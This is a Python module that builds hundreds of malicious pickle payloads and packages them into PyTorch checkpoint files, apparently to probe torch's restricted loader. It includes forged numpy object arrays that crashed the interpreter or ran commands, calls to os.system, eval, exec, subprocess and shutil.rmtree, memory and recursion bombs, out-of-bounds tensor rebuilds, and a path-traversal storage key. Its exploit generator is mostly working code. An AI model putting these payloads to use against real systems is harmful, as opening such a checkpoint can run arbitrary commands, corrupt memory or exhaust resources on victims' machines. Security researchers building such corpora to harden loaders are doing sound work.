"""Pickles that try to run code, crash the interpreter or fill memory when a checkpoint is opened."""

from __future__ import annotations

import itertools
import pickle
import zipfile

TORCH_MAGIC = 0x1950A86A20F9469CFC6C


def name(module, function):
    return f"c{module}\n{function}\n".encode()


def number(value):
    return b"\x8a\x08" + value.to_bytes(8, "little", signed=True)


def text(value):
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + len(data).to_bytes(4, "little") + data


def many(*items):
    return b"(" + b"".join(items) + b"t"


def call(function, *arguments):
    return function + many(*arguments) + b"R"


def new(cls, *arguments):
    return cls + many(*arguments) + b"\x81"


def items(*values):
    return b"](" + b"".join(values) + b"e"


def table(*pairs):
    return b"}(" + b"".join(pairs) + b"u"


def ended(body):
    return b"\x80\x02" + body + b"."


ADDRESS = bytes.fromhex("4141414142424242")
BYTES = call(name("_codecs", "encode"), text("AAAABBBB"), text("latin1"))
BUFFER = call(name("builtins", "bytearray"), BYTES)
NDARRAY, DTYPE = name("numpy", "ndarray"), name("numpy", "dtype")
OBJECT = call(DTYPE, text("O8"))
FORGED = call(NDARRAY, many(number(1)), OBJECT, BUFFER)
"""An array of one object whose address is eight bytes of the file."""


def forged_arrays():
    """Every way to make numpy take bytes for objects: buffer, new, strides, fields, state, scalar."""
    one = many(number(1))
    fields = call(DTYPE, items(many(text("a"), text("O"))))
    union = call(DTYPE, table(text("names"), items(text("a")), text("formats"), items(text("O"))))
    state = many(number(1), one, OBJECT, b"\x89", BYTES)
    for kind, dtype in (("object", OBJECT), ("fields", fields), ("table", union), ("text", text("O"))):
        for how, made in (("called", call), ("new", new)):
            for buffer, data in (("bytearray", BUFFER), ("bytes", BYTES)):
                yield f"ndarray {how} {kind} {buffer}", made(NDARRAY, one, dtype, data)
        for module in ("numpy.core.multiarray", "numpy._core.multiarray"):
            yield f"scalar {kind} {module}", call(name(module, "scalar"), dtype, BYTES)
            rebuilt = call(name(module, "_reconstruct"), NDARRAY, many(number(0)), BYTES)
            yield f"state {kind} {module}", rebuilt + state + b"b"
        yield f"state of ndarray {kind}", new(NDARRAY, one, dtype) + state + b"b"
    for base in ("i8", "V8", "f8"):
        plain = call(NDARRAY, one, text(base), BUFFER)
        yield f"state changes {base} into object", plain + state + b"b"
    flags = many(number(3), text("|"), b"N", b"N", b"N", number(8), number(8), number(63))
    yield "flags of a type", call(NDARRAY, one, call(DTYPE, text("V8")) + flags + b"b", BUFFER)


def users(array):
    """What touches the objects in an array while a pickle is read or after."""
    yield "in a set", call(name("builtins", "set"), array)
    yield "in a Counter", call(name("collections", "Counter"), array)
    yield "in an OrderedDict", call(name("collections", "OrderedDict"), items(array))
    yield "in a Size", call(name("torch", "Size"), array)
    yield "in a bytearray", call(name("builtins", "bytearray"), array)
    yield "in a parameter", call(name("torch.nn.parameter", "Parameter"), array)
    yield "in a Tensor", call(name("torch", "Tensor"), array)
    yield (
        "in from_numpy",
        call(
            name("torch._utils", "_rebuild_device_tensor_from_numpy"),
            array,
            name("torch", "float32"),
            text("cpu"),
            b"\x89",
        ),
    )
    yield "as a key", table(many(array), number(1))
    yield "in a Namespace", new(name("argparse", "Namespace")) + table(text("a"), array) + b"b"


COMMANDS = """
posix:system os:system nt:system subprocess:Popen subprocess:call builtins:eval builtins:exec
builtins:getattr builtins:__import__ builtins:open __builtin__:eval importlib:import_module
runpy:run_module runpy:_run_code pickle:loads _pickle:loads marshal:loads types:CodeType
types:FunctionType operator:attrgetter operator:methodcaller functools:partial functools:reduce
ctypes:CDLL ctypes:string_at shutil:rmtree shutil:move webbrowser:open socket:socket code:interact
pdb:run timeit:timeit cProfile:run platform:popen pty:spawn asyncio:run sys:exit torch:load
torch.hub:load torch.jit:load torch.serialization:load torch.ops:load_library
torch.utils.cpp_extension:load_inline torch.storage:_load_from_bytes torch._utils:_rebuild_qtensor
torch._utils:_rebuild_nested_tensor torch._utils:_rebuild_wrapper_subclass
torch._utils:_rebuild_sparse_tensor torch._utils:_rebuild_device_tensor_from_numpy torch:Tensor
torch:FloatTensor torch.sparse:FloatTensor numpy:load numpy:frombuffer numpy:memmap
numpy.testing._private.utils:runstring numpy.f2py.crackfortran:myeval pathlib:Path.write_text
mmengine.config:Config.fromfile mmengine.utils:import_modules_from_strings omegaconf:OmegaConf.load
lightning.fabric:run copyreg:__newobj__ copy_reg:add_extension _io:FileIO io:open_code builtins:type
builtins:input builtins:breakpoint builtins:compile builtins:globals builtins:setattr builtins:vars
builtins:map
"""


def commands():
    """Calls of what runs code, opens files or makes memory of any size."""
    for command in COMMANDS.split():
        module, function = command.split(":")
        target = name(module, function)
        for how, body in (
            ("called", call(target, text("touch owned"))),
            ("new", new(target, text("touch owned"))),
            ("stack", text(module) + text(function) + b"\x93" + many(text("touch owned")) + b"R"),
            ("inst", b"(" + text("touch owned") + f"i{module}\n{function}\n".encode()),
            ("obj", b"(" + target + text("touch owned") + b"o"),
            ("newobj_ex", target + many(text("touch owned")) + b"}" + b"\x92"),
        ):
            yield f"{module}.{function} {how}", body


def bombs():
    """Small pickles that ask for much memory or work, or overflow the stack of the interpreter."""
    huge = number(1 << 40)
    for cls in (("builtins", "bytearray"), ("torch.storage", "UntypedStorage"), ("torch", "FloatStorage")):
        yield f"huge {cls[1]}", call(name(*cls), huge)
    yield "huge ndarray", call(NDARRAY, many(huge), text("f8"))
    yield "nested tuples as a key", table(b"N" + b"\x85" * 200_000, number(1))
    yield "nested tuples in a set", b"\x8f(" + b"N" + b"\x85" * 200_000 + b"\x90"
    yield "nested tuples in a frozenset", b"(" + b"N" + b"\x85" * 200_000 + b"\x91"
    yield "nested lists", b"]" * 200_000 + b"a" * 199_999
    doubled = b"]" + b"".join(
        b"q" + bytes([step]) + b"0](h" + bytes([step]) + b"h" + bytes([step]) + b"e" for step in range(60)
    )
    yield "doubled lists", doubled
    yield "a list in itself", b"]q\x00h\x00a"
    yield "long integer", b"\x8b" + (2_000_000).to_bytes(4, "little") + b"\x7f" * 2_000_000
    yield "decimal digits", b"I" + b"9" * 100_000 + b"\n"
    listed = items(*[number(7)] * 20_000) + b"q\x00"
    yield "one list again and again", listed + (name("torch", "Size") + b"h\x00\x85R") * 20_000
    yield "codec", call(name("_codecs", "encode"), text("x" * 10_000), text("punycode"))


def storage(key="0", numel=4, kind=("torch", "FloatStorage")):
    return many(text("storage"), name(*kind), text(key), text("cpu"), number(numel)) + b"Q"


def tensors():
    """Tensors that look beyond their storage, or whose storage is elsewhere."""
    rebuild = name("torch._utils", "_rebuild_tensor_v2")
    hooks = call(name("collections", "OrderedDict"))

    def tensor(held, offset=0, size=(4,), stride=(1,)):
        shape, steps = many(*map(number, size)), many(*map(number, stride))
        return call(rebuild, held, number(offset), shape, steps, b"\x89", hooks)

    yield "offset beyond", tensor(storage(), 1 << 30)
    yield "negative offset", tensor(storage(), -8)
    yield "size beyond", tensor(storage(), 0, (1 << 40,))
    yield "negative size", tensor(storage(), 0, (-4,))
    yield "negative stride", tensor(storage(), 3, (4,), (-1,))
    yield "stride beyond", tensor(storage(), 0, (4,), (1 << 40,))
    yield "expanded to fill memory", tensor(storage(), 0, (1 << 40, 1 << 20), (0, 0))
    yield "storage larger than its file", tensor(storage(numel=1 << 40))
    yield "negative storage", tensor(storage(numel=-1))
    yield "no such storage", tensor(storage("../../../etc/passwd"))
    yield "storage of texts", tensor(text("storage"))
    yield "overflowing shape", tensor(storage(), 0, (0, 1 << 62, 1 << 62), (1, 1, 1))
    yield "quantised storage", tensor(storage(kind=("torch", "QInt8Storage")))
    yield (
        "module as storage",
        many(text("module"), name("torch", "FloatStorage"), text("0"), text("x"), number(1)) + b"Q",
    )
    maker = name("torch._tensor", "_rebuild_from_type_v2")
    for module, function in (("builtins", "bytearray"), ("collections", "OrderedDict"), ("torch", "Size")):
        yield (
            f"{function} as maker of a tensor",
            call(maker, name(module, function), name("torch", "Tensor"), many(number(1 << 40)), b"}"),
        )


def all_gadgets():
    """Yield (what it tries, the body of its pickle), several hundred."""
    yield from commands()
    for what, array in forged_arrays():
        yield what, array
        for where, body in users(array):
            yield f"{what} {where}", body
    yield from bombs()
    yield from tensors()


CRASHING = {
    "in a set": call(name("builtins", "set"), FORGED),
    "in a Counter": call(name("collections", "Counter"), FORGED),
    "in an OrderedDict": call(name("collections", "OrderedDict"), items(FORGED)),
    "in a Size": call(name("torch", "Size"), FORGED),
    "in a set of new": call(name("builtins", "set"), new(NDARRAY, many(number(1)), OBJECT, BUFFER)),
}
"""The shapes that crashed the interpreter or ran a command under torch's own reader with numpy allowed."""


def write_zip(path, body, *, weight=b"\x00" * 16):
    """Write a file of `torch.save` with a state dict and the gadget beside it."""
    tensor = call(
        name("torch._utils", "_rebuild_tensor_v2"),
        storage("w"),
        number(0),
        many(number(4)),
        many(number(1)),
        b"\x89",
        call(name("collections", "OrderedDict")),
    )
    pickled = ended(table(text("state_dict"), table(text("w"), tensor), text("gadget"), body))
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/data/w", weight)
        archive.writestr("archive/data/0", weight)
        archive.writestr("archive/version", "3\n")
    return path


def write_legacy(path, body):
    """Write a file of `torch.save` before 1.6 whose values are the gadget."""
    front = [TORCH_MAGIC, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}]
    path.write_bytes(
        b"".join(pickle.dumps(item, protocol=2) for item in front) + ended(body) + ended(b"]") + b"\0" * 64
    )
    return path


def numbered(gadgets):
    """Give each gadget a short file name."""
    return [(f"{index:04}", what, body) for index, (what, body) in zip(itertools.count(), gadgets)]
